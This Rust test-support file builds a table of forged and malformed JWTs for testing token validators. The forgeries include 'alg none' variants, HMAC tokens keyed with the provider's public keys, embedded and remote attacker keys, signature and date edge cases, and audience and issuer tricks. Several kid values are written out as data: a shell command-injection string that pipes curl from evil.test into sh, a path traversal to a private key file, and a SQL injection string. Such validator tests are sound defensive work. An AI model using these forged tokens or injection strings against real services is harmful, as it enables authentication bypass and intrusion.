//! The JWT attacks, as tokens: one row per attack, built against a provider
//! whose JWKS holds one P-256 key (`kid` "ec1") and one RSA key (`kid`
//! "rsa1"). Shared by every validator's table (ID tokens and bearer tokens in
//! `filters/core/tests/jwt_attacks.rs`, the edge's admin tokens in
//! `connector/tests/admin_token_attacks.rs`); each table says which refusal
//! code each row must get.
//!
//! Back-channel logout tokens do not exist yet. When the receiver lands, its
//! test builds [`attacks`] with a logout token's claims (`events`, `sid`, no
//! `nonce`) and adds its own table of codes, plus the logout-specific rows
//! (a `nonce` present, a missing `events` member).
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use base64::Engine as _;
use jwt_simple::prelude::*;
use p256::ecdsa::signature::Signer as _;
use serde_json::{json, Value};
use std::sync::OnceLock;

/// The provider's keys (and an attacker's).
pub struct Keys {
    /// The provider's P-256 key.
    pub ec: p256::ecdsa::SigningKey,
    /// The provider's RSA key.
    pub rsa: RS256KeyPair,
    /// A key the attacker owns.
    pub attacker: p256::ecdsa::SigningKey,
}

/// Generated once per test binary (RSA generation is slow in debug builds).
pub fn keys() -> &'static Keys {
    static K: OnceLock<Keys> = OnceLock::new();
    K.get_or_init(|| Keys {
        ec: p256::ecdsa::SigningKey::from_slice(&[7u8; 32]).unwrap(),
        rsa: RS256KeyPair::generate(2048).unwrap().with_key_id("rsa1"),
        attacker: p256::ecdsa::SigningKey::from_slice(&[9u8; 32]).unwrap(),
    })
}

/// The uncompressed SEC1 point (`04 ‖ x ‖ y`) of a key.
pub fn uncompressed(k: &p256::ecdsa::SigningKey) -> Vec<u8> {
    ES256KeyPair::from_bytes(&k.to_bytes())
        .unwrap()
        .public_key()
        .public_key()
        .to_bytes_uncompressed()
}

fn point(k: &p256::ecdsa::SigningKey) -> (String, String) {
    let p = uncompressed(k);
    (B64.encode(&p[1..33]), B64.encode(&p[33..65]))
}

/// The public JWK of a P-256 key.
pub fn ec_jwk(k: &p256::ecdsa::SigningKey, kid: &str) -> Value {
    let (x, y) = point(k);
    json!({"kty":"EC","crv":"P-256","kid":kid,"use":"sig","x":x,"y":y})
}

/// The provider's public RSA JWK.
pub fn rsa_jwk() -> Value {
    let c = keys().rsa.public_key().to_components();
    json!({"kty":"RSA","kid":"rsa1","use":"sig","n":B64.encode(&c.n),"e":B64.encode(&c.e)})
}

/// The provider's JWKS.
pub fn jwks() -> String {
    json!({"keys":[ec_jwk(&keys().ec, "ec1"), rsa_jwk()]}).to_string()
}

/// `b64(header).b64(payload)` signed ES256 by `key`.
pub fn es256_raw(header: &str, payload: &str, key: &p256::ecdsa::SigningKey) -> String {
    let signing_input = format!("{}.{}", B64.encode(header), B64.encode(payload));
    let sig: p256::ecdsa::Signature = key.sign(signing_input.as_bytes());
    format!("{signing_input}.{}", B64.encode(sig.to_bytes()))
}

/// A token with the given header, signed by the provider's P-256 key.
pub fn es256(header: Value, claims: &Value) -> String {
    es256_raw(&header.to_string(), &claims.to_string(), &keys().ec)
}

fn with(claims: &Value, key: &str, value: Value) -> Value {
    let mut c = claims.clone();
    c[key] = value;
    c
}

fn without(claims: &Value, key: &str) -> Value {
    let mut c = claims.clone();
    c.as_object_mut().unwrap().remove(key);
    c
}

fn hmac_token(alg: &str, secret: &[u8], claims: &Value) -> String {
    let custom: JWTClaims<Value> = JWTClaims {
        issued_at: None,
        expires_at: None,
        invalid_before: None,
        issuer: None,
        subject: None,
        audiences: None,
        jwt_id: None,
        nonce: None,
        custom: claims.clone(),
    };
    let t = match alg {
        "HS256" => HS256Key::from_bytes(secret)
            .with_key_id("ec1")
            .authenticate(custom),
        "HS384" => HS384Key::from_bytes(secret)
            .with_key_id("ec1")
            .authenticate(custom),
        _ => HS512Key::from_bytes(secret)
            .with_key_id("ec1")
            .authenticate(custom),
    };
    t.unwrap()
}

/// One attack.
pub struct Row {
    /// What the attack is (the key of each validator's table).
    pub name: String,
    /// The token.
    pub token: String,
}

/// Every attack against a provider that would sign `claims` (a valid token's
/// claims, with numeric `iat`/`exp` around `now`). The first row is the
/// valid token itself, so that each table also shows what passes.
pub fn attacks(claims: &Value, now: u64) -> Vec<Row> {
    let k = keys();
    let mut rows: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, token: String| rows.push((name.to_string(), token));
    let good = || json!({"alg":"ES256","typ":"JWT","kid":"ec1"});
    add("valid ES256", es256(good(), claims));
    add(
        "valid RS256",
        k.rsa
            .sign(JWTClaims {
                issued_at: None,
                expires_at: None,
                invalid_before: None,
                issuer: None,
                subject: None,
                audiences: None,
                jwt_id: None,
                nonce: None,
                custom: claims.clone(),
            })
            .unwrap(),
    );
    let payload = B64.encode(claims.to_string());
    for alg in ["none", "None", "NONE", "nOnE"] {
        for sig in ["", "AAAA"] {
            let h = B64.encode(json!({"alg":alg,"kid":"ec1"}).to_string());
            add(
                &format!("alg {alg}, signature {sig:?}"),
                format!("{h}.{payload}.{sig}"),
            );
        }
    }
    // HMAC keyed with the provider's public keys in every form an attacker finds them.
    let ec_public = p256::PublicKey::from(k.ec.verifying_key());
    let ec_forms: Vec<(&str, Vec<u8>)> = {
        use p256::pkcs8::EncodePublicKey;
        vec![
            (
                "EC PEM",
                ec_public
                    .to_public_key_pem(Default::default())
                    .unwrap()
                    .into_bytes(),
            ),
            (
                "EC DER",
                ec_public.to_public_key_der().unwrap().as_bytes().to_vec(),
            ),
            ("EC JWK", ec_jwk(&k.ec, "ec1").to_string().into_bytes()),
            ("EC raw point", uncompressed(&k.ec)),
        ]
    };
    let rsa_forms: Vec<(&str, Vec<u8>)> = vec![
        ("RSA PEM", k.rsa.public_key().to_pem().unwrap().into_bytes()),
        ("RSA DER", k.rsa.public_key().to_der().unwrap()),
        ("RSA JWK", rsa_jwk().to_string().into_bytes()),
    ];
    for (form, secret) in ec_forms.iter().chain(rsa_forms.iter()) {
        for alg in ["HS256", "HS384", "HS512"] {
            add(
                &format!("{alg} keyed with the {form}"),
                hmac_token(alg, secret, claims),
            );
        }
    }
    // Keys the token brings along.
    let attacker_jwk = ec_jwk(&k.attacker, "ec1");
    add(
        "embedded jwk (attacker's key), kid ec1",
        es256_raw(
            &json!({"alg":"ES256","kid":"ec1","jwk":attacker_jwk}).to_string(),
            &claims.to_string(),
            &k.attacker,
        ),
    );
    add(
        "embedded jwk (attacker's key), no kid",
        es256_raw(
            &json!({"alg":"ES256","jwk":attacker_jwk}).to_string(),
            &claims.to_string(),
            &k.attacker,
        ),
    );
    for (field, value) in [
        ("jku", json!("https://evil.test/jwks.json")),
        ("x5u", json!("https://evil.test/cert.pem")),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIUevil"])),
    ] {
        let mut h = json!({"alg":"ES256","kid":"attacker"});
        h[field] = value.clone();
        add(
            &format!("{field} to the attacker's key, attacker's kid"),
            es256_raw(&h.to_string(), &claims.to_string(), &k.attacker),
        );
        let mut h = json!({"alg":"ES256","kid":"ec1"});
        h[field] = value;
        add(
            &format!("{field} to the attacker's key, provider's kid"),
            es256_raw(&h.to_string(), &claims.to_string(), &k.attacker),
        );
    }
    // kid games (signed by the attacker: no kid may make their key count).
    for (what, kid) in [
        ("path traversal", "../../../../../../dev/null"),
        ("path traversal to a key file", "/etc/ssl/private/key.pem"),
        ("SQL injection", "x' UNION SELECT 'secret' --"),
        ("command injection", "ec1; curl evil.test | sh"),
        ("empty", ""),
        ("unknown", "rotated-2099"),
    ] {
        add(
            &format!("kid {what}"),
            es256_raw(
                &json!({"alg":"ES256","kid":kid}).to_string(),
                &claims.to_string(),
                &k.attacker,
            ),
        );
    }
    add(
        "kid as a number",
        es256_raw(r#"{"alg":"ES256","kid":1}"#, &claims.to_string(), &k.ec),
    );
    // Header and structure.
    add(
        "crit [exp] (validly signed)",
        es256(
            json!({"alg":"ES256","kid":"ec1","crit":["exp"],"exp":1}),
            claims,
        ),
    );
    add(
        "crit with an unknown extension (validly signed)",
        es256(
            json!({"alg":"ES256","kid":"ec1","crit":["x-evil"],"x-evil":true}),
            claims,
        ),
    );
    let inner = es256(good(), &with(claims, "sub", json!("admin")));
    add(
        "nested JWT as the payload (cty JWT, validly signed)",
        es256_raw(
            &json!({"alg":"ES256","kid":"ec1","cty":"JWT"}).to_string(),
            &inner,
            &k.ec,
        ),
    );
    let body = claims.to_string();
    let dup_sub = format!(r#"{{"sub":"admin",{}"#, &body[1..]);
    add(
        "duplicate sub in the payload (validly signed)",
        es256_raw(&good().to_string(), &dup_sub, &k.ec),
    );
    let dup_iss = format!(r#"{{"iss":"https://evil.test",{}"#, &body[1..]);
    add(
        "duplicate iss in the payload (validly signed)",
        es256_raw(&good().to_string(), &dup_iss, &k.ec),
    );
    add(
        "duplicate alg in the header (none, then ES256; validly signed)",
        es256_raw(r#"{"alg":"none","kid":"ec1","alg":"ES256"}"#, &body, &k.ec),
    );
    add(
        "not three parts",
        format!("{}.{}", B64.encode(good().to_string()), payload),
    );
    add("four parts", format!("{}.x", es256(good(), claims)));
    add(
        "header not JSON",
        format!("{}.{payload}.AAAA", B64.encode("not json")),
    );
    // Signatures.
    let signing_input = format!("{}.{}", B64.encode(good().to_string()), payload);
    let real = es256(good(), claims);
    let real_sig = B64.decode(real.rsplit('.').next().unwrap()).unwrap();
    for (what, sig) in [
        ("r = s = 0", vec![0u8; 64]),
        ("r = s = n (the group order)", {
            let n =
                hex_to_bytes("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551");
            [n.clone(), n].concat()
        }),
        ("truncated to 32 bytes", real_sig[..32].to_vec()),
        ("truncated by one byte", real_sig[..63].to_vec()),
        (
            "oversized: one byte more",
            [real_sig.clone(), vec![0]].concat(),
        ),
        ("oversized: DER-encoded", der_signature(&real_sig)),
        ("empty", Vec::new()),
    ] {
        add(
            &format!("signature {what}"),
            format!("{signing_input}.{}", B64.encode(sig)),
        );
    }
    add("signature with padding characters", format!("{}=", real));
    // Dates.
    for (what, exp) in [
        ("2^31", json!(1u64 << 31)),
        ("2^32", json!(1u64 << 32)),
        ("2^53", json!(1u64 << 53)),
        ("2^63", json!(1u64 << 63)),
        ("u64::MAX", json!(u64::MAX)),
        ("1e300", json!(1e300)),
        ("-1", json!(-1)),
        ("a float", json!(now as f64 + 3600.5)),
        ("a string", json!((now + 3600).to_string())),
        ("a date text", json!("2099-01-01T00:00:00Z")),
        ("null", Value::Null),
    ] {
        add(
            &format!("exp {what}"),
            es256(good(), &with(claims, "exp", exp)),
        );
    }
    add("exp missing", es256(good(), &without(claims, "exp")));
    add(
        "iat a string",
        es256(good(), &with(claims, "iat", json!(now.to_string()))),
    );
    add(
        "iat in the future (+1 h)",
        es256(good(), &with(claims, "iat", json!(now + 3600))),
    );
    add(
        "nbf in the future (+1 h)",
        es256(good(), &with(claims, "nbf", json!(now + 3600))),
    );
    add(
        "expired (exp 1 h ago)",
        es256(good(), &with(claims, "exp", json!(now - 3600))),
    );
    // Audience and authorised party.
    let aud = claims["aud"].as_str().unwrap_or_default().to_string();
    add(
        "aud as a one-element array",
        es256(good(), &with(claims, "aud", json!([aud]))),
    );
    add(
        "aud as an array with another audience, no azp",
        es256(good(), &with(claims, "aud", json!([aud, "other-app"]))),
    );
    add(
        "aud as an array with another audience, azp ours",
        es256(
            good(),
            &with(
                &with(claims, "aud", json!([aud, "other-app"])),
                "azp",
                json!(aud),
            ),
        ),
    );
    add(
        "aud another app",
        es256(good(), &with(claims, "aud", json!("other-app"))),
    );
    add(
        "aud an array without us",
        es256(good(), &with(claims, "aud", json!(["a", "b"]))),
    );
    add("aud missing", es256(good(), &without(claims, "aud")));
    add(
        "azp another party",
        es256(good(), &with(claims, "azp", json!("other-app"))),
    );
    add(
        "iss another provider",
        es256(good(), &with(claims, "iss", json!("https://evil.test"))),
    );
    rows.into_iter()
        .map(|(name, token)| Row { name, token })
        .collect()
}

fn hex_to_bytes(h: &str) -> Vec<u8> {
    (0..h.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&h[i..i + 2], 16).unwrap())
        .collect()
}

fn der_signature(p1363: &[u8]) -> Vec<u8> {
    p256::ecdsa::Signature::from_slice(p1363)
        .unwrap()
        .to_der()
        .as_bytes()
        .to_vec()
}

/// Runs `validate` over every row and compares each outcome with `expect`
/// (row name → code, `"ok"` for accepted). Every row must be in the table and
/// every table entry must be a row. Prints the table.
pub fn check_table(
    validator: &str,
    rows: &[Row],
    expect: &[(&str, &str)],
    mut validate: impl FnMut(&str) -> String,
) {
    let mut wrong = Vec::new();
    for row in rows {
        let got = validate(&row.token);
        let want = expect
            .iter()
            .find(|(n, _)| *n == row.name)
            .map(|(_, c)| *c)
            .unwrap_or_else(|| panic!("{validator}: no expected code for row `{}`", row.name));
        println!("{validator:>14} | {:<62} | {got}", row.name);
        if got != want {
            wrong.push(format!("`{}`: expected {want}, got {got}", row.name));
        }
    }
    for (name, _) in expect {
        assert!(
            rows.iter().any(|r| r.name == *name),
            "{validator}: table names `{name}`, which is no row"
        );
    }
    assert!(wrong.is_empty(), "{validator}:\n{}", wrong.join("\n"));
}
